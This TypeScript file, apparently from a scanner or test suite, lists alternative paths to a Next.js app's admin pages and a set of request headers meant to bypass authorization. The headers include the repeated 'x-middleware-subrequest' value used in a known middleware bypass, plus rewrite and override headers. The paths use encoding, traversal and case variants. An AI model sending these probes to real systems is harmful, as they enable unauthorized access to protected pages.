/** Other ways to the pages of a Next app: data of both routers, images, and paths with the id of a build. */
export function dataTargets(buildId: string): readonly string[] {
  const pages = [
    'admin/props',
    'admin//props',
    '%61dmin/props',
    'admin%2fprops',
    'ADMIN/props',
    './admin/props',
  ];
  return [
    ...pages.flatMap((page) => [
      `/_next/data/${buildId}/${page}.json`,
      `//_next/data/${buildId}/${page}.json`,
      `/_next/data/x/${page}.json`,
      `/public/../_next/data/${buildId}/${page}.json`,
      `/${page}`,
      `/${page}/`,
      `/${page}.json`,
    ]),
    ...[
      '/admin/page-of/7',
      '/admin/page-of/7.rsc',
      '/admin/page-of/7.prefetch.rsc',
      '/admin/page-of/7?_rsc=1',
    ],
    ...['/admin.rsc', '/admin/x.rsc', '/admin/page-of/7.segments/_tree.segment.rsc', '/index/../admin/x'],
    '/_next/image?url=%2Fadmin%2Fx&w=64&q=75',
  ];
}

/** Headers by which Next, or a server in front of it, says what was decided already. A client may send them, too. */
export const HEADER_TRICKS: readonly Readonly<Record<string, string>>[] = [
  ...['proxy', 'middleware', 'src/middleware', 'src/proxy', 'pages/_middleware'].map((name) => ({
    'x-middleware-subrequest': Array(5).fill(name).join(':'),
  })),
  { 'x-middleware-next': '1' },
  { 'x-middleware-invoke': '1' },
  { 'x-middleware-rewrite': '/admin/x' },
  { 'x-middleware-override-headers': 'authorization' },
  { 'x-middleware-prefetch': '1' },
  { 'x-invoke-path': '/admin/x' },
  { 'x-invoke-status': '200' },
  { 'x-matched-path': '/admin/x' },
  { 'x-now-route-matches': '1=x' },
  { 'x-original-url': '/admin/x' },
  { 'x-rewrite-url': '/admin/x' },
  { 'x-forwarded-uri': '/public/x' },
  { 'x-nextjs-data': '1' },
  { RSC: '1', 'Next-Router-Prefetch': '1' },
  { RSC: '1', 'Next-Url': '/public/x' },
  { 'Next-Action': 'x' },
  { 'x-prerender-revalidate': 'x' },
  { 'x-http-method-override': 'GET' },
];
